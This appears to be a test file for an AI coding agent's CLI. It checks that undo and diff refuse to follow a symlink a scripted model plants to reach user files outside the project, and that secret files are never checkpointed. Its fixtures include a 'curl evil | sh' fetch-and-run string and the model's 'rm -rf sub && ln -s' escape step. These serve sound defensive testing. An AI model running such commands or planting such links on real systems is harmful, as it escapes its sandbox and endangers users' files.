/**
 * Undo and diff act only inside the project, through descriptors (docs/sessions.md "Undo"):
 * the model writes a file through file_write (checkpointed), then replaces a directory on its
 * path by a symlink to a place outside with one sandboxed bash call. `scoot undo`, `--force`,
 * the REPL's `/undo` and `scoot diff` must neither write, remove nor read the outside file,
 * and must name the entry they refused. Through the built CLI against the scripted model.
 */
import fs from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { removeDir, runCli, tempDir } from "../helpers/cli.js";
import { useScene } from "../helpers/scene.js";
import { type ScriptItem, startScriptedServer, step } from "../helpers/scripted-server.js";

const scene = useScene({ home: "scoot-undoc-home-", project: "scoot-undoc-project-", realProject: true });
/** The place the planted link points to: the user's files outside the project. */
let outside: string;
beforeEach(() => {
  outside = fs.realpathSync(tempDir("scoot-undoc-outside-"));
});
afterEach(async () => {
  removeDir(outside);
});

const final = (answer: string): ScriptItem => step("final", answer, "t");
const file = (name: string) => path.join(scene.project, name);
const USER_CONTENT = "the user's own file\n";
const ATTACKER_CONTENT = "attacker: curl evil | sh\n";

async function evalRun(items: ScriptItem[], extra: string[] = []) {
  scene.server = await startScriptedServer(items);
  const r = await runCli(["-e", "change things", "--session-id", "swap-me", ...extra], {
    home: scene.home,
    cwd: scene.project,
    env: { SCOOT_BACKEND_BASE_URL: scene.server.url },
  });
  await scene.server.close();
  scene.server = undefined;
  return r;
}

const scoot = (args: string[]) => runCli(args, { home: scene.home, cwd: scene.project });

/** The model's two moves: a checkpointed write under sub/, then sub swapped for a link outside. */
function swapScript(name: string, content: string): ScriptItem[] {
  return [
    step("file_write", { path: `sub/${name}`, content }),
    step("bash", `rm -rf sub && ln -s ${outside} sub`),
    final("done"),
  ];
}

function auditEvents(kind: string): { msg: string }[] {
  const text = fs.readFileSync(path.join(scene.home, "logs", "audit.jsonl"), "utf8");
  return text
    .split("\n")
    .filter((l) => l.trim() !== "")
    .map((l) => JSON.parse(l) as { kind: string; msg: string })
    .filter((e) => e.kind === kind);
}

describe("undo through a planted symlink", () => {
  beforeEach(() => {
    fs.writeFileSync(path.join(outside, "notes.txt"), USER_CONTENT);
    fs.mkdirSync(file("sub"));
    fs.writeFileSync(file("sub/notes.txt"), "project notes\n");
  });

  it("scoot undo leaves the outside file untouched and names the refused entry", async () => {
    const r = await evalRun(swapScript("notes.txt", ATTACKER_CONTENT));
    expect(r.code, r.stderr).toBe(0);
    expect(fs.lstatSync(file("sub")).isSymbolicLink()).toBe(true);
    const undo = await scoot(["undo"]);
    expect(fs.readFileSync(path.join(outside, "notes.txt"), "utf8")).toBe(USER_CONTENT);
    expect(undo.code).toBe(1);
    expect(undo.stdout).not.toContain("restored sub/notes.txt");
    expect(undo.stderr).toContain("sub/notes.txt");
    expect(undo.stderr).toMatch(/refused/);
    expect(undo.stderr).toMatch(/symlink/);
  });

  it("scoot undo --force overrides only 'changed since', never containment", async () => {
    await evalRun(swapScript("notes.txt", ATTACKER_CONTENT));
    const undo = await scoot(["undo", "--force"]);
    expect(fs.readFileSync(path.join(outside, "notes.txt"), "utf8")).toBe(USER_CONTENT);
    expect(undo.code).toBe(1);
    expect(undo.stdout).not.toContain("restored sub/notes.txt");
    expect(undo.stderr).toContain("sub/notes.txt");
    expect(undo.stderr).toMatch(/refused/);
  });

  it("a restore of 'absent' does not unlink through the link", async () => {
    fs.writeFileSync(path.join(outside, "fresh.txt"), USER_CONTENT);
    await evalRun(swapScript("fresh.txt", "made by scoot\n"));
    const undo = await scoot(["undo", "--force"]);
    expect(fs.readFileSync(path.join(outside, "fresh.txt"), "utf8")).toBe(USER_CONTENT);
    expect(undo.code).toBe(1);
    expect(undo.stdout).not.toContain("removed  sub/fresh.txt");
    expect(undo.stderr).toContain("sub/fresh.txt");
  });

  it("scoot diff does not read through the link", async () => {
    await evalRun(swapScript("notes.txt", ATTACKER_CONTENT));
    const diff = await scoot(["diff"]);
    expect(diff.code, diff.stderr).toBe(0);
    expect(diff.stdout + diff.stderr).not.toContain("the user's own file");
    expect(diff.stderr).toContain("sub/notes.txt");
  });

  it("the REPL's /undo leaves the outside file untouched and names the refused entry", async () => {
    scene.server = await startScriptedServer(swapScript("notes.txt", ATTACKER_CONTENT));
    const repl = await runCli(["repl"], {
      home: scene.home,
      cwd: scene.project,
      env: { SCOOT_BACKEND_BASE_URL: scene.server.url },
      input: "change things\n/undo --force\n",
    });
    expect(repl.code, repl.stderr).toBe(0);
    expect(fs.readFileSync(path.join(outside, "notes.txt"), "utf8")).toBe(USER_CONTENT);
    expect(repl.stdout).not.toContain("restored sub/notes.txt");
    expect(repl.stderr).toContain("sub/notes.txt");
    expect(repl.stderr).toMatch(/refused/);
    expect(
      auditEvents("undo")
        .map((e) => e.msg)
        .join("\n"),
    ).toContain(`refused ${file("sub/notes.txt")}`);
  });
});

describe("undo inside the project", () => {
  it("a normal undo still works and writes an undo audit event naming each file", async () => {
    fs.writeFileSync(file("a.txt"), "a before\n");
    await evalRun([
      step("file_write", { path: "a.txt", content: "a after\n" }),
      step("file_write", { path: "deep/er/b.txt", content: "b\n" }),
      final("done"),
    ]);
    const undo = await scoot(["undo"]);
    expect(undo.code, undo.stderr).toBe(0);
    expect(undo.stdout).toContain("restored a.txt");
    expect(undo.stdout).toContain("removed  deep/er/b.txt");
    expect(fs.readFileSync(file("a.txt"), "utf8")).toBe("a before\n");
    expect(fs.existsSync(file("deep/er/b.txt"))).toBe(false);
    const events = auditEvents("undo");
    const all = events.map((e) => e.msg).join("\n");
    expect(all).toContain(file("a.txt"));
    expect(all).toContain(file("deep/er/b.txt"));
  });

  it("undo in readonly is refused by the gate, changes nothing, and is audited", async () => {
    fs.writeFileSync(file("a.txt"), "a before\n");
    await evalRun([step("file_write", { path: "a.txt", content: "a after\n" }), final("done")]);
    const undo = await scoot(["undo", "--policy", "readonly"]);
    expect(undo.code).toBe(1);
    expect(undo.stderr).toContain("a.txt");
    expect(undo.stderr).toContain("readonly");
    expect(fs.readFileSync(file("a.txt"), "utf8")).toBe("a after\n");
    expect(
      auditEvents("undo")
        .map((e) => e.msg)
        .join("\n"),
    ).toContain("refused");
  });

  it("a file the gate calls secret is not checkpointed, and undo says so", async () => {
    fs.writeFileSync(file(".env"), "API_KEY=sk-live-do-not-keep\n");
    const r = await evalRun(
      [step("file_write", { path: ".env", content: "API_KEY=changed\n" }), final("done")],
      ["--policy", "unrestricted"],
    );
    expect(r.code, r.stderr).toBe(0);
    const dir = path.join(scene.home, "state", "checkpoints", "swap-me");
    const kept = fs
      .readdirSync(dir)
      .map((n) => fs.readFileSync(path.join(dir, n), "utf8"))
      .join("\n");
    expect(kept).not.toContain(Buffer.from("API_KEY=sk-live-do-not-keep\n").toString("base64"));
    expect(kept).not.toContain("sk-live-do-not-keep");
    const undo = await scoot(["undo", "--force", "--policy", "unrestricted"]);
    expect(undo.stdout + undo.stderr).toContain(".env");
    expect(undo.stdout + undo.stderr).toMatch(/secret/);
    expect(fs.readFileSync(file(".env"), "utf8")).toBe("API_KEY=changed\n");
    const diff = await scoot(["diff"]);
    expect(diff.stdout + diff.stderr).not.toContain("API_KEY=changed");
  });
});
